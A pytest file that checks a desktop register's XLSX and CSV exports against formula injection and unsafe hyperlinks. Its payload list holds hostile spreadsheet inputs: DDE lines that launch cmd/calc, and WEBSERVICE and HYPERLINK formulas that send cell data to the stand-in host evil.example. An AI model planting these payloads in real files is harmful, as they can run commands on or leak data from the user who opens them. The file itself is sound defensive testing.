"""An export cannot attack its reader: whatever is in the register, no program finds a formula in the file."""

from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from atmp_desktop.records.organisation import Organisation
from atmp_desktop.records.vocabulary import SHIPPED
from atmp_desktop.services.cells import Cleaner, from_csv
from atmp_desktop.services.csv_file import write_csv
from atmp_desktop.services.export_list import export_list
from atmp_desktop.services.workbook import Cell, Heading, Sheet, write_workbook
from atmp_desktop.store.rows import Listing
from atmp_desktop.store.store import Store
from tests.read_back import CSV_IN, CSV_IN_LIVE, by_calamine, by_csv, by_libreoffice, by_openpyxl, formulas, part, table

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/","Click here")',
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML("http://evil.example/","//a")',
    "=IF(TRUE,1,2)",
    "==1+1",
    "+1+1",
    "+44 20 7946 0123",
    "-2+3",
    "-1",
    "@SUM(1+1)",
    "@A1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    '=1+1";=2+2',
    'a",=1+1',
    "a,=1+1",
    ";=1+1",
    "{=1+1}",
    "＝1+1",
    "_x003D_1+1",
    "</t></is><f>1+1</f>",
    "]]>=1+1",
    "\u202e=1+1",
    "|=1+1",
    "%0A=1+1",
    "=HYPERLINK(B1)\nsecond line",
)

RAW = ("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\x00=1+1", "\ufeff=1+1", "=\x0b1+1", "\ud800=1+1")
"""What no register holds, and a writer may be given all the same."""


@pytest.fixture
def hostile(register: Store) -> Store:
    with register.write("Add organisations") as write:
        for number, payload in enumerate(PAYLOADS):
            name = payload.replace("\n", " ")
            write.add(Organisation(name=name, short_name=f"{number:02}", notes=payload, region=name[:80]))
    return register


def listing(store: Store) -> Listing:
    columns = ("short_name", "name", "notes", "region")
    return Listing(Organisation, store.today(), columns=columns, order=("short_name",), vocabulary=SHIPPED)


def expected() -> list[list[str]]:
    flat = [payload.replace("\n", " ") for payload in PAYLOADS]
    return [[f"{n:02}", flat[n], payload, flat[n][:80]] for n, payload in enumerate(PAYLOADS)]


def raw_sheet() -> tuple[Sheet, Iterator[list[Cell]]]:
    cleaner = Cleaner()
    sheet = Sheet("Raw", "=1+1", [Heading("=1+1", 20), Heading("Phone", 20, "phone"), Heading("Web", 20, "web")], [])
    return sheet, ([cleaner.text(text)] * 3 for text in (*RAW, *PAYLOADS))


def test_a_workbook_says_what_the_register_says_and_none_of_it_is_a_formula(hostile: Store, tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    export_list(hostile, listing(hostile), path)
    assert by_calamine(path)[1:] == expected()
    assert formulas(path) == []
    assert "quotePrefix" in part(path, "xl/styles.xml")
    sheet = by_openpyxl(path)
    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row} <= {"s", "inlineStr"}
    assert all(cell.quotePrefix for row in sheet.iter_rows(min_row=2) for cell in row)


def test_libreoffice_finds_no_formula_in_a_workbook(hostile: Store, tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    export_list(hostile, listing(hostile), path)
    again = by_libreoffice(path, tmp_path, "ods")
    assert formulas(again) == []
    assert by_calamine(again)[1:] == expected()


def test_libreoffice_finds_no_formula_in_a_workbook_however_raw_its_cells(tmp_path: Path) -> None:
    path = tmp_path / "raw.xlsx"
    sheet, rows = raw_sheet()
    assert write_workbook(sheet, rows, path) == len(RAW) + len(PAYLOADS)
    assert formulas(path) == []
    assert formulas(by_libreoffice(path, tmp_path, "xlsx")) == []


def test_a_csv_file_says_what_the_register_says_once_the_apostrophes_are_off(hostile: Store, tmp_path: Path) -> None:
    path = tmp_path / "hostile.csv"
    export_list(hostile, listing(hostile), path)
    assert [[from_csv(cell) for cell in row] for row in by_csv(path)[1:]] == expected()


@pytest.mark.parametrize("infilter", [CSV_IN, CSV_IN_LIVE], ids=["as text", "with formulas worked out"])
def test_libreoffice_finds_no_formula_in_a_csv_file(hostile: Store, tmp_path: Path, infilter: str) -> None:
    path = tmp_path / "hostile.csv"
    export_list(hostile, listing(hostile), path)
    assert formulas(by_libreoffice(path, tmp_path, "ods", infilter)) == []


def test_libreoffice_finds_no_formula_in_a_csv_file_however_raw_its_cells(tmp_path: Path) -> None:
    path = tmp_path / "raw.csv"
    sheet, rows = raw_sheet()
    write_csv(sheet, rows, path)
    assert formulas(by_libreoffice(path, tmp_path, "ods", CSV_IN_LIVE)) == []


def test_the_proof_would_see_a_formula_in_a_csv_file_that_is_not_protected(tmp_path: Path) -> None:
    path = tmp_path / "unprotected.csv"
    path.write_text("Name\n=1+1\n", encoding="utf-8")
    assert formulas(by_libreoffice(path, tmp_path, "ods", CSV_IN_LIVE)) == ["of:=1+1"]


def test_links_lead_to_web_pages_and_mailboxes_and_nowhere_else(tmp_path: Path) -> None:
    headings = [Heading("Good", 20, "web"), Heading("Bad", 20, "web"), Heading("Mail", 20, "email")]
    rows: list[list[Cell]] = [
        ["https://www.example.org/a?b=c&d=e", "https://www.example.org/", "o'brien+atmp@example.org"],
        ["not an address", r"file://\\evil.example\share", "a?cc=evil@example.org"],
        [None, "internal:Sheet1!A1", "zoë@example.org"],
    ]
    path = tmp_path / "links.xlsx"
    write_workbook(Sheet("Links", "Links", headings), rows, path)
    sheet = by_openpyxl(path)
    targets = {cell.coordinate: cell.hyperlink.target for row in sheet.iter_rows() for cell in row if cell.hyperlink}
    assert targets == {
        "A2": "https://www.example.org/a?b=c&d=e",
        "C2": "mailto:o'brien+atmp@example.org",
        "C4": "mailto:zoë@example.org",
    }
    assert [row[2] for row in by_calamine(path)[1:]] == [row[2] for row in rows]


def test_a_group_of_a_hostile_name_is_text_in_the_title_too(tmp_path: Path) -> None:
    path = tmp_path / "title.xlsx"
    name = '=HYPERLINK("http://evil.example/")&A1'
    sheet = Sheet("Sheet", name, [Heading("A", 9), Heading("B", 9)], [name], name, name)
    write_workbook(sheet, [["1", "2"]], path)
    grid = by_calamine(path)
    assert [row[0] for row in grid[:3]] == [name] * 3
    assert table(grid, "A")[1] == [["1", "2"]]
    assert formulas(by_libreoffice(path, tmp_path, "ods")) == []
    # In the head of a printed page & begins a code, so each of ours is doubled.
    assert '=HYPERLINK("http://evil.example/")&amp;&amp;A1' in part(path, "xl/worksheets/sheet1.xml")


def test_days_before_excel_can_count_are_written_in_figures(register: Store, tmp_path: Path) -> None:
    with register.write("Add organisations") as write:
        for number, day in enumerate((date(1850, 1, 2), date(1900, 2, 28), date(1900, 3, 1), date(2026, 5, 22))):
            write.add(Organisation(name=f"{number}", key_partner_from=day))
    path = tmp_path / "days.xlsx"
    columns = ("name", "key_partner_from")
    export_list(register, Listing(Organisation, register.today(), columns=columns, vocabulary=SHIPPED), path)
    found = [row[1] for row in by_calamine(path)[1:]]
    assert found == ["1850-01-02", "1900-02-28", date(1900, 3, 1), date(2026, 5, 22)]
